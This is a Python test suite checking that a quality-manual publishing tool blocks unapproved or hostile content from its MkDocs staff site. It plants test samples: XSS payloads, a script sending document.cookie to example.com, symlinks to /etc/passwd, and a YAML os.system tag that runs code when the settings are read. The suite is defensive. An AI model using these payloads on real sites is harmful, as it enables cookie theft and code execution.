"""Nothing reaches the staff site that nobody approved or committed.

Site pages are published as committed; links out of the repository, unknown
citations and unapproved site settings or hooks stop the build. Each test builds
a real site with MkDocs from a small manual in a real git repository.
"""

from __future__ import annotations

import os
import resource
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from qmsdoc.site import SitePlan

from .conftest import PROJECT, ManualRepo, mini_manual, new_repo

SITE_SETTINGS = """site_name: 测试局质量管理体系文件
docs_dir: docs
site_dir: site
theme:
  name: material
  language: zh
  font: false
hooks:
  - hooks/qmsdoc_mkdocs.py
markdown_extensions: [toc, tables, admonition, attr_list]
"""
HOME = "# 测试局\n\n体系总体说明见 {{ doc(\"QM-01\") }}。\n"


@pytest.fixture
def site_repo(tmp_path: Path) -> ManualRepo:
    """The mini manual, approved, with a site: mkdocs.yml, the project's hook, a home page."""
    files = {**mini_manual(), "mkdocs.yml": SITE_SETTINGS, "docs/index.md": HOME,
             "hooks/qmsdoc_mkdocs.py": (PROJECT / "hooks/qmsdoc_mkdocs.py").read_text("utf-8")}
    repo = new_repo(tmp_path / "repo", files)
    repo.commit("Add the first edition and the site", date="2024-02-01")
    repo.approve_all(["JR-01", "JR-02", "JR-03"], date="2024-02-10")
    repo.approve_all(["QM-01", "QP-01", "QR-01-01"], date="2024-02-20")
    return repo


def build(repo: ManualRepo, **env: str) -> subprocess.CompletedProcess[str]:
    mkdocs = str(Path(sys.executable).with_name("mkdocs"))
    return subprocess.run([mkdocs, "build"], cwd=repo.root, capture_output=True, text=True,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1",
                               "QMSDOC_DATE": "2024-07-01", **env})


def published(repo: ManualRepo, page: str) -> str:
    return (repo.root / "site" / page).read_text(encoding="utf-8")


def test_the_staff_site_publishes_site_pages_as_committed(site_repo: ManualRepo) -> None:
    site_repo.write("docs/index.md", HOME + "\n草稿段落<script>alert(1)</script>\n")
    site_repo.write("docs/notice.md", "# 未提交的通知\n")
    result = build(site_repo)
    assert result.returncode == 0, result.stderr
    home = published(site_repo, "index.html")
    assert "体系总体说明见" in home and "草稿段落" not in home and "alert(1)" not in home
    assert not (site_repo.root / "site/notice").exists()
    assert "docs/index.md: 警告：网站页面有未提交的修改" in result.stderr
    assert "docs/notice.md: 警告：网站页面没有提交" in result.stderr
    strict = build(site_repo, QMSDOC_STRICT="1")
    assert strict.returncode != 0 and "page.uncommitted" in strict.stderr


def test_a_link_out_of_the_repository_stops_the_build(site_repo: ManualRepo) -> None:
    secret = site_repo.root.parent / "secret.txt"
    secret.write_text("数据库密码 hunter2\n", encoding="utf-8")
    os.symlink(secret, site_repo.root / "docs/secret.md")
    os.symlink("/etc/passwd", site_repo.root / "docs/passwd.md")
    site_repo.commit("Add links", date="2024-03-01")
    found = [f for f in site_repo.gate().findings if f.rule == "file.symlink"]
    assert {f.path for f in found} == {"docs/secret.md", "docs/passwd.md"}
    assert all(f.is_error and "指向仓库之外" in f.message for f in found)
    result = build(site_repo)
    assert result.returncode != 0 and "file.symlink" in result.stderr
    assert not (site_repo.root / "site").exists()


def test_a_link_to_a_committed_file_publishes_its_committed_text(site_repo: ManualRepo) -> None:
    site_repo.write("notes/guide.md", "# 使用说明\n\n已提交的说明。\n")
    os.symlink("../notes/guide.md", site_repo.root / "docs/guide.md")
    site_repo.commit("Link the guide", date="2024-03-01")
    site_repo.write("notes/guide.md", "# 使用说明\n\n尚未提交的改动。\n")
    result = build(site_repo)
    assert result.returncode == 0, result.stderr
    guide = published(site_repo, "guide/index.html")
    assert "已提交的说明" in guide and "尚未提交的改动" not in guide


def test_a_controlled_document_cannot_be_a_link(site_repo: ManualRepo) -> None:
    os.symlink("qp-01.md", site_repo.root / "procedures/qp-09.md")
    site_repo.commit("Link", date="2024-03-01")
    found = [f for f in site_repo.gate().findings if f.rule == "file.symlink"]
    assert [f.path for f in found] == ["procedures/qp-09.md"] and found[0].is_error


def test_citations_in_site_pages_are_checked_and_escaped(site_repo: ManualRepo) -> None:
    site_repo.write("docs/index.md", HOME + '\n见 {{ doc("<img src=x onerror=alert(1)>") }}。\n'
                    '\n另见 {{ doc("../../../etc/passwd") }} 和 {{ clause("9.9") }}。\n')
    site_repo.commit("Cite", date="2024-03-01")
    gate = site_repo.gate()
    found = sorted((f.line, f.rule) for f in gate.findings if f.path == "docs/index.md")
    # The <img onerror> reads as HTML and as an attribute list: both say so.
    assert found == [(5, "content.event-handler"), (5, "content.event-handler"),
                     (5, "reference.unknown-document"), (7, "clause.unknown"),
                     (7, "reference.unknown-document")]
    assert all(f.is_error for f in gate.findings if f.path == "docs/index.md")
    html = SitePlan(gate, "docs").expand_macros(site_repo.read("docs/index.md"), "index.md")
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;（不存在）" in html
    assert build(site_repo).returncode != 0


def test_titles_are_text_not_markup(site_repo: ManualRepo) -> None:
    gate = site_repo.gate()
    plan = SitePlan(gate, "docs")
    page = plan.documents["QP-01"]
    object.__setattr__(gate.statuses["QP-01"].published_document, "title", "<script>x()</script>")
    assert "# QP-01 &lt;script&gt;x()&lt;/script&gt;" in plan.decorate_markdown(page, "正文")
    nav = str(plan.nav(["index.md"]))
    assert "<script>" not in nav


def approve_by_merge(repo: ManualRepo, branch: str, date: str) -> None:
    repo.git("checkout", "-q", "main", date=date)
    repo.git("merge", "-q", "--no-ff", branch, "-m",
             f"Merge branch '{branch}'\n\nApproved-by: 王局长 <wang@example.gov.cn>",
             person="王局长", date=date)


def test_site_settings_and_hooks_need_approval_before_the_staff_site_is_built(
        site_repo: ManualRepo) -> None:
    site_repo.git("checkout", "-q", "-b", "site", date="2024-03-01")
    site_repo.edit("mkdocs.yml", "site_name: 测试局质量管理体系文件", "site_name: 测试局文件")
    site_repo.commit("Rename the site", date="2024-03-01", paths=("mkdocs.yml",))
    check = site_repo.gate().findings
    change = [f for f in check if f.rule == "governance.unapproved-change"]
    assert [(f.path, f.is_error) for f in change] == [("mkdocs.yml", False)]
    result = build(site_repo)
    assert result.returncode != 0
    assert "mkdocs.yml: 错误：网站设置（mkdocs.yml）在批准后又被修改" in result.stderr
    approve_by_merge(site_repo, "site", date="2024-03-05")
    assert build(site_repo).returncode == 0


def test_a_new_file_among_the_hooks_needs_approval(site_repo: ManualRepo) -> None:
    (site_repo.root / "hooks/qmsdoc").mkdir()
    (site_repo.root / "hooks/qmsdoc/__init__.py").write_text("print('hijacked')\n")
    result = build(site_repo)
    assert result.returncode != 0
    assert "hooks/qmsdoc/__init__.py: 错误：网站钩子（hooks/）有未提交的修改" in result.stderr
    shutil.rmtree(site_repo.root / "hooks/qmsdoc")
    assert build(site_repo).returncode == 0


def test_hooks_must_live_in_the_governed_folder(site_repo: ManualRepo) -> None:
    site_repo.edit("mkdocs.yml", "  - hooks/qmsdoc_mkdocs.py", "  - hooks/qmsdoc_mkdocs.py\n  - x.py")
    found = [f for f in site_repo.gate().findings if f.rule == "governance.hook-outside"]
    assert len(found) == 1 and found[0].is_error and "x.py" in found[0].message


def test_active_content_in_approved_text_and_pages_stops_the_build(site_repo: ManualRepo) -> None:
    site_repo.write("docs/index.md", HOME + '\n<img src=x onerror="alert(1)">\n')
    site_repo.write("docs/tracker.js", "fetch('https://example.com/?' + document.cookie)\n")
    qp01 = "procedures/qp-01.md"
    site_repo.edit(qp01, "title: 文件控制程序", "title: 文件控制程序<script>alert(2)</script>")
    site_repo.edit(qp01, "文件管理员维护受控文件。", "文件管理员维护受控文件。[详见](javascript:alert(3))")
    site_repo.edit(qp01, "version: A/0", "version: A/1")
    site_repo.edit(qp01, "effective_date: '2024-03-01'", "effective_date: '2024-03-10'")
    site_repo.edit(qp01, "state: effective", "state: in_review")
    site_repo.commit("Revise", date="2024-03-01")
    # qmsdoc approve refuses; approvals by hand (in merge requests, say) count all the same.
    assert site_repo.approve("QP-01", person="陈代表", date="2024-03-05", review=True).exit_code == 1
    site_repo.trailer_commit("Reviewed-by: 陈代表 <chen@example.gov.cn>", person="陈代表",
                             date="2024-03-05", path=qp01)
    site_repo.trailer_commit("Approved-by: 王局长 <wang@example.gov.cn>", person="王局长",
                             date="2024-03-06", path=qp01)
    assert site_repo.gate().statuses["QP-01"].published.snapshot.version.amendment == 1
    found = {(f.path, f.line, f.rule) for f in site_repo.gate().findings if f.is_error}
    assert found == {("docs/index.md", 5, "content.event-handler"),
                     ("docs/tracker.js", None, "content.script"),
                     (qp01, 4, "content.script"), (qp01, 33, "content.unsafe-url")}
    result = build(site_repo)
    assert result.returncode != 0 and not (site_repo.root / "site").exists()


def qmsdoc_build(repo: ManualRepo, **env: str) -> subprocess.CompletedProcess[str]:
    command = str(Path(sys.executable).with_name("qmsdoc"))
    return subprocess.run([command, "build"], cwd=repo.root, capture_output=True, text=True,
                          env={**os.environ, "QMSDOC_DATE": "2024-07-01", **env})


def test_qmsdoc_build_checks_before_mkdocs_reads_its_settings(site_repo: ManualRepo,
                                                               tmp_path: Path) -> None:
    assert qmsdoc_build(site_repo).returncode == 0
    published_home = published(site_repo, "index.html")
    marker = tmp_path / "ran"
    site_repo.edit("mkdocs.yml", "site_dir: site", "site_dir: site\nextra:\n  x: !!python/object/apply:"
                   f"os.system [\"touch {marker}\"]")
    site_repo.commit("Change the site settings", date="2024-03-01", paths=("mkdocs.yml",))
    result = qmsdoc_build(site_repo)
    assert result.returncode == 1 and not marker.exists()
    assert "mkdocs.yml: 错误：网站设置（mkdocs.yml）在批准后又被修改" in result.stderr
    assert "网站没有生成" in result.stderr and "Traceback" not in result.stderr
    assert published(site_repo, "index.html") == published_home
    build(site_repo)  # plain MkDocs runs the tag while reading its settings, before any hook
    assert marker.exists()


def test_a_full_disk_during_the_build_keeps_the_published_site(site_repo: ManualRepo) -> None:
    assert qmsdoc_build(site_repo).returncode == 0
    before = published(site_repo, "index.html")
    site_repo.write("docs/index.md", HOME + "\n新的通知。\n")
    site_repo.commit("Notice", date="2024-03-01")

    def small_files() -> None:  # no file over 400 kB: the theme's largest files cannot be written
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (400_000, 400_000))

    command = str(Path(sys.executable).with_name("qmsdoc"))
    result = subprocess.run([command, "build"], cwd=site_repo.root, capture_output=True, text=True,
                            env={**os.environ, "QMSDOC_DATE": "2024-07-01"},
                            preexec_fn=small_files)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "生成网站时读写" in result.stderr and "文件超过了系统允许的大小" in result.stderr
    assert "已发布的网站保持不变" in result.stderr
    assert published(site_repo, "index.html") == before
    assert sorted(p.name for p in site_repo.root.glob("site*")) == ["site", "site.lock"]
    assert qmsdoc_build(site_repo).returncode == 0  # the lock was released
    assert "新的通知" in published(site_repo, "index.html")


def test_the_staff_site_is_built_with_the_governed_settings_only(site_repo: ManualRepo) -> None:
    shutil.copy(site_repo.root / "mkdocs.yml", site_repo.root / "other.yml")
    mkdocs = str(Path(sys.executable).with_name("mkdocs"))
    result = subprocess.run([mkdocs, "build", "-f", "other.yml"], cwd=site_repo.root,
                            capture_output=True, text=True, env={**os.environ, "QMSDOC_DATE": "2024-07-01"})
    assert result.returncode != 0 and "员工网站只能用受控的 mkdocs.yml 生成" in result.stderr
    assert not (site_repo.root / "site").exists()


def test_qmsdoc_build_publishes_only_what_mkdocs_wrote_into_its_staging_folder(
        tmp_path: Path) -> None:
    """A hook that does not match the installed qmsdoc (say, an older one) sends the site
    elsewhere: the empty staging folder must not replace the published site."""
    elsewhere = "def on_config(config):\n    config.site_dir = 'elsewhere'\n    return config\n"
    files = {**mini_manual(), "docs/index.md": HOME, "hooks/elsewhere.py": elsewhere,
             "mkdocs.yml": SITE_SETTINGS.replace("  - hooks/qmsdoc_mkdocs.py",
                                                 "  - hooks/qmsdoc_mkdocs.py\n  - hooks/elsewhere.py"),
             "hooks/qmsdoc_mkdocs.py": (PROJECT / "hooks/qmsdoc_mkdocs.py").read_text("utf-8")}
    repo = new_repo(tmp_path / "repo", files)
    repo.commit("Add the first edition and the site", date="2024-02-01")
    repo.approve_all(["JR-01", "JR-02", "JR-03"], date="2024-02-10")
    repo.approve_all(["QM-01", "QP-01", "QR-01-01"], date="2024-02-20")
    (repo.root / "site").mkdir()
    (repo.root / "site/index.html").write_text("已发布的网站", encoding="utf-8")
    result = qmsdoc_build(repo)
    assert result.returncode == 2 and "钩子与安装的 qmsdoc 版本不一致" in result.stderr
    assert (repo.root / "site/index.html").read_text(encoding="utf-8") == "已发布的网站"
